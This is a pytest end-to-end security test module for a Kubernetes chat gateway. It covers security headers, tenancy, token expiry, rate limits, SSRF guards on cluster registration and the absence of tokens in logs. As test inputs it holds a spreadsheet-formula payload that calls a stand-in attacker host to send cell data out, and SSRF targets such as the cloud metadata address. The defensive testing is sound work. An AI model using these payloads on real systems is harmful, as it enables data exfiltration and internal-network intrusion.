"""The public edge and sessions against the real stack (issue 13): security headers, a
probe that names no address, numbers bounded before conversion, conversations owned by
their user, sockets that close when their token expires, an SSRF guard on registration,
formula-safe exports, and no token string in any service's log."""

from __future__ import annotations

import csv
import json
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import grpc
import httpx
import pytest
from websockets.exceptions import ConnectionClosed
from websockets.sync.client import ClientConnection, connect
from websockets.typing import Subprotocol

from kubechat.v1 import executor_pb2, executor_pb2_grpc
from kubechat_devstack.keycloak import REALM_FILE, Keycloak
from kubechat_devstack.service_identity import channel_to
from kubechat_devstack.stack import Ports, Stack
from tests.e2e.executor_support import CLUSTER_ADMIN
from tests.e2e.keycloak_fixtures import REALM, RealmAdmin, Tokens, password

SHORT_CLIENT = "kubechat-e2e-short"
SHORT_LIFESPAN = 8  # seconds an access token of SHORT_CLIENT lives
RATE_LIMIT = 6
# Every token handed to the stack in this module: none may appear in any log.
_ISSUED: list[str] = []


@pytest.fixture(scope="module")
def edge(tmp_path_factory: pytest.TempPathFactory, keycloak: Keycloak) -> Iterator[Stack]:
    """The five services with OIDC sign-in and no cluster (nothing here needs one)."""
    base = tmp_path_factory.mktemp("edge")
    home = base / "home"
    home.mkdir()
    stack = Stack(
        base_dir=base,
        ports=Ports.free(),
        extra_env={
            "KUBECHAT_ENVIRONMENT": "test",
            "KUBECHAT_AUTH_MODE": "oidc",
            "KUBECHAT_OIDC_ISSUER": keycloak.issuer(REALM),
            "KUBECHAT_RATE_LIMIT_ASKS": str(RATE_LIMIT),
            "KUBECONFIG": "",
            "HOME": str(home),
        },
    )
    try:
        stack.start_all()
        yield stack
    finally:
        stack.stop()


@pytest.fixture(scope="module")
def short_tokens(realm_admin: RealmAdmin, keycloak: Keycloak, tokens: Tokens) -> Tokens:
    """A public client whose access tokens live SHORT_LIFESPAN seconds."""
    web = json.loads(REALM_FILE.read_text())["clients"][0]
    if not realm_admin.get("/clients", clientId=SHORT_CLIENT):
        realm_admin.create(
            "/clients",
            {
                "clientId": SHORT_CLIENT,
                "publicClient": True,
                "standardFlowEnabled": False,
                "directAccessGrantsEnabled": True,
                "protocolMappers": web["protocolMappers"],
                "attributes": {"access.token.lifespan": str(SHORT_LIFESPAN)},
            },
        )
    return tokens


def token(tokens: Tokens, user: str, client_id: str = "") -> str:
    if not client_id:
        issued = tokens.password_grant(user)
    else:
        reply = httpx.post(
            tokens.token_url,
            data={
                "grant_type": "password",
                "client_id": client_id,
                "username": user,
                "password": password(user),
                "scope": "openid",
            },
        )
        assert reply.status_code == 200, reply.text
        issued = str(reply.json()["access_token"])
    _ISSUED.append(issued)
    return issued


def ask(stack: Stack, bearer: str, text: str, **fields: str) -> httpx.Response:
    return httpx.post(
        f"{stack.gateway_url}/api/v1/ask",
        json={"text": text, **fields},
        headers={"Authorization": f"Bearer {bearer}"},
        timeout=30,
    )


def open_socket(stack: Stack, conversation_id: str, bearer: str) -> ClientConnection:
    url = stack.gateway_url.replace("http", "ws", 1) + f"/api/v1/conversations/{conversation_id}/ws"
    protocols = [Subprotocol("kubechat.v1"), Subprotocol(f"kubechat.bearer.{bearer}")]
    socket = connect(url, subprotocols=protocols, open_timeout=30)
    assert socket.subprotocol == "kubechat.v1"  # the token itself is never echoed
    return socket


def events_until_done(socket: ClientConnection, timeout: float = 60) -> list[dict[str, Any]]:
    events: list[dict[str, Any]] = []
    deadline = time.monotonic() + timeout
    while not events or events[-1].get("type") != "done":
        events.append(json.loads(socket.recv(timeout=max(0.1, deadline - time.monotonic()))))
    return events


# -- the edge ------------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["/", "/healthz", "/api/v1/config", "/api/v1/me", "/nowhere"])
def test_every_response_carries_the_security_headers(edge: Stack, path: str) -> None:
    response = httpx.get(f"{edge.gateway_url}{path}", timeout=10)
    policy = response.headers["content-security-policy"]
    assert "frame-ancestors 'none'" in policy and "script-src 'self'" in policy
    assert "cdn" not in policy
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["referrer-policy"] == "no-referrer"


def test_docs_need_a_setting_and_openapi_stays(edge: Stack) -> None:
    assert httpx.get(f"{edge.gateway_url}/docs", timeout=10).status_code == 404
    assert httpx.get(f"{edge.gateway_url}/openapi.json", timeout=10).status_code == 200


def test_readiness_names_no_address_or_url(edge: Stack) -> None:
    deadline = time.monotonic() + 20
    while True:
        response = httpx.get(f"{edge.gateway_url}/readyz", timeout=10)
        if response.status_code == 200 or time.monotonic() > deadline:
            break
        time.sleep(0.3)
    body = response.text
    assert response.status_code == 200, body
    assert set(response.json()["dependencies"]) >= {"nlp", "executor", "redis", "nats"}
    for leak in ("127.0.0.1", "redis://", "nats://", "localhost", "address"):
        assert leak not in body


def test_a_number_too_large_for_int64_is_a_clear_400(edge: Stack, tokens: Tokens) -> None:
    response = ask(edge, token(tokens, "bob"), "scale web to 99999999999999999999999 in dev")
    assert response.status_code == 400, response.text
    error = response.json()["error"]
    assert error["code"] == "invalid_argument"
    assert "too large for 'replicas'" in error["message"]


# -- tenancy and sessions --------------------------------------------------------------


def test_ask_refuses_a_conversation_that_is_not_the_callers(edge: Stack, tokens: Tokens) -> None:
    conversation = f"bobs-{uuid.uuid4().hex[:8]}"
    owner = ask(edge, token(tokens, "bob"), "list pods in staging", conversation_id=conversation)
    assert owner.status_code != 404, owner.text  # (503: this stack has no cluster)
    for intruder in ("gus", "alice"):  # another tenant; the same tenant, another user
        refused = ask(edge, token(tokens, intruder), "scale it to 0", conversation_id=conversation)
        assert refused.status_code == 404, refused.text
        assert refused.json()["error"]["code"] == "not_found"


def test_rest_asks_count_against_the_same_rate_limit(edge: Stack, tokens: Tokens) -> None:
    bearer = token(tokens, "acme-admin")
    statuses = [ask(edge, bearer, "list pods in dev").status_code for _ in range(RATE_LIMIT + 1)]
    assert 429 not in statuses[:RATE_LIMIT], statuses
    assert statuses[-1] == 429


def test_an_expired_token_closes_the_open_socket(edge: Stack, short_tokens: Tokens) -> None:
    bearer = token(short_tokens, "bob", SHORT_CLIENT)
    with open_socket(edge, f"short-{uuid.uuid4().hex[:8]}", bearer) as socket:
        assert json.loads(socket.recv(timeout=10))["type"] == "ready"
        socket.send(json.dumps({"type": "ping"}))
        assert json.loads(socket.recv(timeout=10))["type"] == "pong"
        with pytest.raises(ConnectionClosed) as closed:
            while True:  # the server speaks last: nothing arrives until it closes
                socket.recv(timeout=SHORT_LIFESPAN + 15)
    assert closed.value.rcvd is not None
    assert closed.value.rcvd.code == 4401
    assert json.loads(closed.value.rcvd.reason)["code"] == "unauthenticated"


def test_a_socket_without_a_token_is_refused_with_the_sign_in_again_code(
    edge: Stack,
) -> None:
    url = edge.gateway_url.replace("http", "ws", 1) + "/api/v1/conversations/stale/ws"
    with connect(url, subprotocols=[Subprotocol("kubechat.v1")], open_timeout=30) as socket:
        with pytest.raises(ConnectionClosed) as closed:
            socket.recv(timeout=10)
    assert closed.value.rcvd is not None and closed.value.rcvd.code == 4401


# -- exports -------------------------------------------------------------------------------


def test_conversation_csv_never_starts_a_formula(edge: Stack, tokens: Tokens) -> None:
    bearer = token(tokens, "bob")
    conversation = f"csv-{uuid.uuid4().hex[:8]}"
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x") list pods in dev'
    with open_socket(edge, conversation, bearer) as socket:
        assert json.loads(socket.recv(timeout=10))["type"] == "ready"
        socket.send(json.dumps({"type": "ask", "text": formula, "cluster": ""}))
        events_until_done(socket)
    export = httpx.get(
        f"{edge.gateway_url}/api/v1/conversations/{conversation}/export",
        params={"format": "csv"},
        headers={"Authorization": f"Bearer {bearer}"},
        timeout=10,
    )
    assert export.status_code == 200, export.text
    cells = [cell for line in export.text.splitlines()[1:] for cell in _cells(line)]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells), cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


def _cells(line: str) -> list[str]:
    return next(csv.reader([line]))


# -- cluster registration ----------------------------------------------------------------


def _executor_channel(stack: Stack) -> grpc.Channel:
    # As the gateway calls: mesh certificate and a caller assertion for a tenant admin.
    return channel_to(stack, "executor", CLUSTER_ADMIN)


@pytest.mark.parametrize(
    ("server", "said"),
    [
        ("https://169.254.169.254", "link-local"),
        ("https://[fd00:ec2::254]", "metadata"),
        ("https://127.0.0.1:6443", "loopback"),
        ("http://10.0.0.1:6443", "https"),
    ],
)
def test_registration_refuses_metadata_loopback_and_plain_http(
    edge: Stack, server: str, said: str
) -> None:
    with _executor_channel(edge) as channel:
        with pytest.raises(grpc.RpcError) as refused:
            executor_pb2_grpc.ExecutorServiceStub(channel).RegisterCluster(
                executor_pb2.RegisterClusterRequest(
                    name=f"ssrf-{uuid.uuid4().hex[:6]}",
                    server=executor_pb2.ServerCredentials(server=server, token="t"),
                ),
                timeout=30,
            )
    assert refused.value.code() == grpc.StatusCode.INVALID_ARGUMENT
    assert said in (refused.value.details() or "")


def test_registration_refuses_a_kubeconfig_with_a_proxy(edge: Stack) -> None:
    kubeconfig = """
apiVersion: v1
kind: Config
clusters: [{name: c, cluster: {server: "https://10.0.0.1", proxy-url: "http://10.0.0.2:3128"}}]
users: [{name: u, user: {token: t}}]
contexts: [{name: x, context: {cluster: c, user: u}}]
current-context: x
"""
    with _executor_channel(edge) as channel:
        with pytest.raises(grpc.RpcError) as refused:
            executor_pb2_grpc.ExecutorServiceStub(channel).RegisterCluster(
                executor_pb2.RegisterClusterRequest(name="proxied", kubeconfig=kubeconfig),
                timeout=30,
            )
    assert refused.value.code() == grpc.StatusCode.INVALID_ARGUMENT
    assert "proxy-url" in (refused.value.details() or "")


# -- logs (last: every test above has handed tokens to the stack) ---------------------------


def test_no_token_reaches_any_service_log(edge: Stack, tokens: Tokens) -> None:
    # An old client that still puts its token in the URL: refused, and never logged.
    legacy = token(tokens, "alice")
    url = edge.gateway_url.replace("http", "ws", 1)
    with connect(
        f"{url}/api/v1/conversations/legacy/ws?access_token={legacy}", open_timeout=30
    ) as socket:
        with pytest.raises(ConnectionClosed):
            socket.recv(timeout=10)
    time.sleep(0.5)  # let the handshake's log line land
    logs = {path.name: path.read_text(errors="replace") for path in _logs(edge.logs)}
    assert "gateway.log" in logs and logs["gateway.log"]
    assert _ISSUED, "the tests above issued tokens"
    for issued in _ISSUED:
        signature = issued.rsplit(".", 1)[-1]
        for name, text in logs.items():
            assert issued not in text, f"a token in {name}"
            assert signature not in text, f"a token's signature in {name}"


def _logs(directory: Path) -> list[Path]:
    return sorted(p for p in directory.rglob("*") if p.is_file())
